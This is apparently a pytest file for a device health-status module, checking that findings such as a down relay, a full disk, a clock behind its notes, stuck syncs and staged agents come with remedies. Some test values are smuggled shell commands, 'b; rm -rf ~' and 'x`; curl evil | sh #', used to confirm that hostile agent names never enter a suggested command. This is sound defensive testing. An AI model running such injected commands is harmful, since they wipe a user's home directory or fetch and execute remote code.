"""Status names what does not go on by itself, since when, why, and what to do; and of what goes on it says nothing."""

from dataclasses import replace
from pathlib import Path

import pytest

from crystal_mirror.notices import Notice
from crystal_node.agent.health.channels import Channels, CommandsOpen, Conversations, FilesOut, MirrorIn
from crystal_node.agent.health.facts import Background, FailingJob, FreeSpace, OtherFacts, StagedAgent
from crystal_node.agent.health.findings import CoreSeen, DeviceFacts, FindingName, device_findings
from crystal_node.agent.jobs.status import PURPOSE, LockHolder
from crystal_node.base.errors import ExitCode
from crystal_node.device.access import Access
from crystal_node.device.activity import (
    STRANGE_LINES,
    STRANGE_TOLD_MS,
    Activity,
    RoundFailure,
    UnknownLines,
    UnreadableTranscript,
)

NOW = 1_800_000_000_000
HOUR = 3_600_000
NOTHING = Conversations(0, 0, None)


def channels(talk: Conversations = NOTHING, commands: CommandsOpen | None = None) -> Channels:
    return Channels(talk, MirrorIn(0, None), FilesOut(0, None), commands)


WELL = DeviceFacts(
    now_ms=NOW,
    is_core=False,
    access=Access.OPEN,
    failure=None,
    last={Activity.ROUND: NOW - 60_000, Activity.ACK: NOW - HOUR, Activity.PULL: NOW - HOUR},
    channels=channels(),
    background=Background(LockHolder(12, PURPOSE)),
    disks=(FreeSpace(Path("/home/someone/.ldm"), 10 * 2**30, 10_000_000, read_only=False),),
    core=CoreSeen("desktop", NOW - HOUR),
    quarantined=0,
    notices={},
    generation_missing=None,
    unreadable=(),
    files_halted="",
    files_withheld=0,
)
DOWN = RoundFailure(NOW - 3 * HOUR, NOW - 60_000, ExitCode.RELAY_UNREACHABLE, "nobody answers", "hint")
LATE = channels(Conversations(0, 4, 5 * 3600.0))
ALONE = Background(None)
FULL = FreeSpace(Path("/home/someone/.ldm"), 3 * 2**20, 10_000_000, read_only=False)


def test_of_a_device_that_is_well_nothing_is_said() -> None:
    assert device_findings(WELL) == []
    working = channels(Conversations(3, 2, 20.0))
    assert device_findings(replace(WELL, channels=working)) == []


@pytest.mark.parametrize(
    ("facts", "name", "says", "advises"),
    [
        (
            replace(WELL, failure=DOWN),
            FindingName.RELAY,
            "for 3 h: nobody answers",
            "network",
        ),
        (replace(WELL, disks=(FULL,)), FindingName.DISK, "Only 3.0 MiB are left", "Make room"),
        (replace(WELL, disks=(replace(FULL, read_only=True),)), FindingName.DISK, "takes no writes", "mount"),
        (
            replace(WELL, disks=(FreeSpace(Path("/h"), 2**40, 7, read_only=False),)),
            FindingName.DISK,
            "7 names of files are left",
            "Make room",
        ),
        (
            replace(WELL, now_ms=NOW - 30 * 24 * HOUR),
            FindingName.CLOCK,
            "30 days behind its own notes",
            "Set it",
        ),
        (replace(WELL, generation_missing=4), FindingName.KEYS, "generation 4", "renew-keys"),
        (
            replace(WELL, channels=channels(Conversations(2, 0, 3600.0)), background=ALONE),
            FindingName.SYNC,
            "2 changes wait here to be sent",
            "crystal agent install",
        ),
        (
            replace(WELL, channels=LATE, last={Activity.ROUND: NOW, Activity.ACK: NOW - 6 * HOUR}),
            FindingName.CORE,
            "4 changes of this device lie on the relay",
            "crystal promote",
        ),
        (
            replace(
                WELL,
                core=CoreSeen("desktop", NOW - 72 * HOUR),
                last={Activity.ROUND: NOW, Activity.PULL: NOW - 72 * HOUR},
            ),
            FindingName.CORE,
            "last heard of 3 days ago",
            "Wake desktop",
        ),
        (
            replace(WELL, notices={Notice.MIRROR_FORKED.value: "at slot 1"}),
            FindingName.MIRROR,
            "Do not trust this relay. (at slot 1)",
            "crystal doctor",
        ),
        (replace(WELL, quarantined=2), FindingName.HELD, "2 things", "verify --deep"),
        (
            replace(WELL, quarantined=1, notices={Notice.QUARANTINED.value: "x"}),
            FindingName.HELD,
            "1 thing",
            "crystal repair",
        ),
        (
            replace(WELL, files_halted="the root marker is missing"),
            FindingName.FILES,
            "root marker",
            "files status",
        ),
        (replace(WELL, files_withheld=3), FindingName.FILES, "3 deletions", "files confirm"),
        (
            replace(
                WELL,
                unreadable=(UnreadableTranscript("/a\x1b[31m/b.jsonl", "cannot be read: Permission denied"),),
            ),
            FindingName.CAPTURE,
            "Permission denied",
            "crystal capture",
        ),
        (
            replace(
                WELL,
                unknown_lines=(
                    UnknownLines(
                        "codex", 40, "/a\x1b[31m/b.jsonl", 7, "record of unknown type", NOW - HOUR, NOW
                    ),
                ),
            ),
            FindingName.CAPTURE,
            "40 lines that codex wrote are of no kind that is known here",
            "crystal backfill",
        ),
        (
            replace(WELL, background=Background(None, (FailingJob("backup", "no room", 3, NOW),))),
            FindingName.JOB,
            "The job backup failed 3 times in a row: no room",
            "crystal jobs run backup",
        ),
        (
            replace(
                WELL,
                others=OtherFacts(
                    staging=(StagedAgent("b; rm -rf ~", "b-rm-1a2b3c4d", "waits for you", False, NOW),)
                ),
            ),
            FindingName.STAGING,
            "The new agent b; rm -rf ~ waits for you",
            "`crystal staging run b-rm-1a2b3c4d` weaves",
        ),
        (
            replace(
                WELL,
                others=OtherFacts(
                    staging=(StagedAgent("b", "b", "failed while weaving: no key", True, NOW),)
                ),
            ),
            FindingName.STAGING,
            "no key",
            "`crystal staging run b` tries it again",
        ),
        (
            replace(WELL, channels=channels(commands=CommandsOpen(0, 0, 2, 60.0)), background=ALONE),
            FindingName.COMMANDS,
            "2 commands of other devices wait here",
            "crystal agent run",
        ),
        (
            replace(WELL, channels=channels(commands=CommandsOpen(1, 0, 0, 30 * 3600.0))),
            FindingName.COMMANDS,
            "for up to 30 h",
            "crystal commands cancel ID",
        ),
        (
            replace(WELL, others=OtherFacts(faults=(("commands.db", "it is damaged"),))),
            FindingName.DATABASE,
            "commands.db cannot be read: it is damaged",
            "crystal doctor",
        ),
    ],
)
def test_each_thing_is_told_with_its_remedy(
    facts: DeviceFacts, name: FindingName, says: str, advises: str
) -> None:
    found = device_findings(facts)
    assert [each.name for each in found] == [name]
    assert says in found[0].text
    assert advises in found[0].fix
    assert found[0].text.isprintable()


def test_a_core_that_is_away_is_no_news_while_this_machine_was_away_itself() -> None:
    slept = {Activity.ROUND: NOW - 48 * HOUR, Activity.ACK: NOW - 49 * HOUR}
    assert device_findings(replace(WELL, core=CoreSeen("desktop", NOW - 49 * HOUR), last=slept)) == []


def test_a_long_backlog_that_goes_on_is_not_stuck() -> None:
    busy = channels(Conversations(0, 90_000, 5 * 3600.0))
    assert (
        device_findings(replace(WELL, channels=busy, last={Activity.ROUND: NOW, Activity.ACK: NOW - 5_000}))
        == []
    )


def test_a_relay_that_refuses_this_device_is_told_once_and_as_a_concern() -> None:
    refused = RoundFailure(NOW - HOUR, NOW, ExitCode.RELAY_REFUSED, "no such token", "pair again")
    assert device_findings(replace(WELL, failure=refused, access=Access.REFUSED)) == []


def test_the_name_of_a_hostile_agent_stands_in_no_command_to_copy() -> None:
    hostile = StagedAgent("x`; curl evil | sh #", "x-1a2b3c4d", "waits for you", False, NOW)
    found = device_findings(replace(WELL, others=OtherFacts(staging=(hostile,))))
    assert "x-1a2b3c4d" in found[0].fix
    assert "curl" not in found[0].fix


def test_many_new_agents_are_told_in_one_sentence_and_those_that_failed_by_name() -> None:
    asking = tuple(
        StagedAgent(f"agent{number}", f"agent{number}", "waits for you", False, NOW) for number in range(5)
    )
    failed = StagedAgent("b", "b", "failed while weaving: no key", True, NOW)
    found = device_findings(replace(WELL, others=OtherFacts(staging=(*asking, failed))))
    assert [each.text[:20] for each in found] == ["5 new agents wait fo", "The new agent b fail"]
    assert "crystal staging list" in found[0].fix


def test_when_the_relay_was_last_tried_is_told_only_once_it_was_long_ago() -> None:
    (just,) = device_findings(replace(WELL, failure=DOWN))
    (long,) = device_findings(
        replace(
            WELL, failure=RoundFailure(DOWN.since, NOW - 600_000, DOWN.exit_code, "nobody answers", "hint")
        )
    )
    assert "last tried" not in just.text
    assert "last tried 10 min ago" in long.text


@pytest.mark.parametrize(("lines", "ago_ms"), [(STRANGE_LINES - 1, 0), (STRANGE_LINES, STRANGE_TOLD_MS)])
def test_of_a_few_strange_lines_and_of_old_ones_nothing_is_said(lines: int, ago_ms: int) -> None:
    found = UnknownLines("codex", lines, "/a.jsonl", 0, "record of unknown type", NOW - ago_ms, NOW - ago_ms)
    assert device_findings(replace(WELL, unknown_lines=(found,))) == []
